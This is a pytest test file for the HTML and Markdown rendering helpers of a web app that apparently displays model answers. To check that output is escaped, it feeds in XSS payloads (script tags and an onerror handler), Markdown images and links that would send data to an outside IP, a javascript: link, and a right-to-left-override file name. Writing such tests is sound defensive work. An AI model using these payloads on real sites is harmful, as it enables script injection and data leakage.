"""The HTML pieces of the pages."""

import re
import tomllib
from pathlib import Path

import pytest

from pages.shared import markup
from pages.shared.answer_markup import MAX_CHARS, MAX_PARTIAL_CHARS, close_open

ROOT = Path(__file__).parent.parent
HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(1)">\'&'
TAGS = re.compile(r"<(script|img|a|iframe|svg|style|link)\b", re.IGNORECASE)


@pytest.mark.parametrize(
    "piece",
    [
        lambda text: markup.answer_html(text, False),
        lambda text: markup.answer_html(text, True),
        lambda text: markup.answer_html('{"a": "' + text, True),
        lambda text: markup.answer_html(f"```\n{text}", True),
        lambda text: markup.answer_html(text * MAX_PARTIAL_CHARS, True),
        lambda text: markup.segments_html([text, "done"], text),
        lambda text: markup.metrics_html([(text, text, text)]),
        lambda text: markup.status_html(text, "done"),
        lambda text: markup.card_head_html(text, text, "failed"),
        lambda text: markup.line_html(text, "title"),
        lambda text: markup.empty_html(text, [text], text),
        lambda text: markup.chip_html(text, text),
        lambda text: markup.diff_panel_html(text, text, ""),
    ],
)
def test_no_piece_lets_html_through(piece):
    """Text that looks like HTML is shown as text, wherever it is put, and can always be sent."""
    shown = piece(HOSTILE + "\ud800")

    assert not TAGS.search(shown)
    assert 'onerror="' not in shown
    shown.encode("utf-8")


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](http://192.0.2.1/?d=secret)",
        "[![x](http://192.0.2.1/a.png)](http://192.0.2.1)",
        "![x][1]\n\n[1]: http://192.0.2.1/a.png",
        "![](data:image/png;base64,AAAA)",
        "[x](javascript:alert(1)) <http://192.0.2.1> http://192.0.2.1",
    ],
)
@pytest.mark.parametrize("partial", [True, False])
def test_images_and_links_stay_text(markdown, partial):
    """An answer can't make the browser fetch an image or offer a link; what was written is shown as it is."""
    shown = markup.answer_html(markdown, partial)

    assert not TAGS.search(shown)
    assert markdown.split("]")[0].split("<")[0] in shown


def test_markdown_of_an_answer_is_rendered():
    """Headings, bold text, lists, tables and code blocks of an answer become elements."""
    answer = "## Core\n- **bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = 1\n```"

    shown = markup.answer_html(answer, False)

    for element in ("<h2>Core", "<li><strong>bold", "<code>code", "<td>1", "<pre><code>x = 1"):
        assert element in shown


@pytest.mark.parametrize(
    ("written", "closed"),
    [
        ("**cost for", "**cost for**"),
        ("**cost for ", "**cost for**"),
        ("cost **", "cost "),
        ("**cost*", "**cost**"),
        ("a `cod", "a `cod`"),
        ("a ``x ` y", "a ``x ` y``"),
        ("a `", "a"),
        ("**`x", "**`x`**"),
        ("`**` and", "`**` and"),
        ("- a **b** c\n", "- a **b** c\n"),
        ("first **\n\nsecond", "first **\n\nsecond"),
        ("```py\nx = **", "```py\nx = **\n```"),
        ("~~~~\n```\n", "~~~~\n```\n~~~~"),
        ("```\nx\n```\n**b", "```\nx\n```\n**b**"),
        ("", ""),
    ],
)
def test_marks_left_open_are_closed(written, closed):
    """While an answer is written, bold text and code end where the text ends."""
    assert close_open(written) == closed


def test_finished_answers_are_not_closed():
    """A finished answer is shown with the marks its model wrote."""
    assert "**cost for" in markup.answer_html("**cost for", False)


@pytest.mark.parametrize("answer", ['{"a": 1}', '  [{"a": 1}]', "{\n", '["x", "y"]', "{}"])
def test_json_is_shown_as_code(answer):
    """An answer that looks like JSON is a block of code, so that its quotes and braces stay."""
    assert '<pre class="wb-json">' in markup.answer_html(answer, True)


@pytest.mark.parametrize("answer", ["[1] as Smith says", "{curly} words", "[link] text"])
def test_prose_with_brackets_is_no_json(answer):
    """A citation or a word in braces at the beginning makes no JSON."""
    assert "wb-json" not in markup.answer_html(answer, False)


def test_long_answers_are_cut_with_a_note():
    """Over the limit, the beginning is shown and a note says how much of it."""
    shown = markup.answer_html("a " * MAX_CHARS, False)

    assert len(shown) < MAX_CHARS + 500
    assert f"The first {MAX_CHARS:,} of {2 * MAX_CHARS:,} characters are shown." in shown


@pytest.mark.parametrize(("steps", "segments", "now"), [(9, 9, 8), (60, 60, 59), (61, 2, 60), (5000, 2, 4999)])
def test_progress_is_told_and_drawn(steps, segments, now):
    """Up to 60 steps have a segment each; more are one bar; the numbers are told in words either way."""
    shown = markup.segments_html(["done"] * (steps - 1) + ["running"], "v1")

    assert shown.count('<span class="wb-segment ') == segments
    assert f'aria-valuemax="{steps}" aria-valuenow="{now}"' in shown
    assert f'aria-valuetext="{steps - 1} done, 1 running"' in shown


def test_both_counts_of_a_difference_have_their_colour():
    """In a panel that shows both sides, words taken out and words put in are counted in two colours."""
    shown = markup.diff_panel_html("both", "−24 +22", "<ins>x</ins>")

    assert '<span class="wb-tone-removed">−24</span> <span class="wb-tone-added">+22</span>' in shown
    assert "<ins>x</ins>" in shown


def test_a_file_name_cant_turn_its_direction():
    """A file name keeps its ending visible: characters that turn the reading direction are dropped."""
    assert "\u202e" not in markup.chip_html("invoice\u202efdp.exe", "")
    assert "\u202e" not in markup.plain_label("invoice\u202efdp.exe")


def test_labels_hold_no_streamlit_markup():
    """In a label, Markdown is escaped and the pairs Streamlit looks for are parted."""
    label = markup.plain_label("**a** $x$ :red[b] ![i](http://192.0.2.1/a.png) a->b")

    for pattern in (r"(?<!\\)[*$!\[]", r":red", r"->", r"http:/"):
        assert not re.search(pattern, label)
    assert markup.plain_label("line\nbreak") == "line break"
    assert len(markup.plain_label("x" * 500)) == 80


def test_colours_are_the_themes():
    """The primary colours and borders of the CSS are those of the theme."""
    theme = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))["theme"]
    css = (ROOT / "pages" / "shared" / "style.css").read_text("utf-8")

    for name, ours in (("primaryColor", "primary"), ("borderColor", "border"), ("secondaryBackgroundColor", "soft")):
        assert f"--wb-{ours}: light-dark({theme['light'][name]}, {theme['dark'][name]})" in css
